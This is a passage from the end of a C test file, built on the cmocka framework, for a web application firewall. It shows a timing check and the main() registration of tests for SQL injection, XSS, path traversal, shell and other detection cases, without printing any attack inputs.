	p.body_len = n;

	t0 = now();
	for (i = 0; i < rounds; i++)
		assert_int_equal(run(waf_pl1, &g, &v), 0);
	tg = (now() - t0) / rounds;
	assert_int_equal(v.block, 0);
	t0 = now();
	for (i = 0; i < rounds / 8; i++)
		assert_int_equal(run(waf_pl1, &p, &v), 0);
	tp = (now() - t0) / (rounds / 8);
	expect_clean("16 KiB form", v);
	print_message("  one check, paranoia 1: GET with browser headers %.0f us, %zu-byte form POST %.0f us\n",
		      tg * 1e6, n, tp * 1e6);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_load_errors),
		cmocka_unit_test(test_sqli),
		cmocka_unit_test(test_xss),
		cmocka_unit_test(test_traversal),
		cmocka_unit_test(test_shell),
		cmocka_unit_test(test_no_false_positives),
		cmocka_unit_test(test_detect_only),
		cmocka_unit_test(test_paranoia),
		cmocka_unit_test(test_body_limit),
		cmocka_unit_test(test_cut_bodies),
		cmocka_unit_test(test_body_errors),
		cmocka_unit_test(test_spoofed_log_fields),
		cmocka_unit_test(test_odd_requests),
		cmocka_unit_test(test_silent),
		cmocka_unit_test(test_threads),
		cmocka_unit_test(test_timing),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
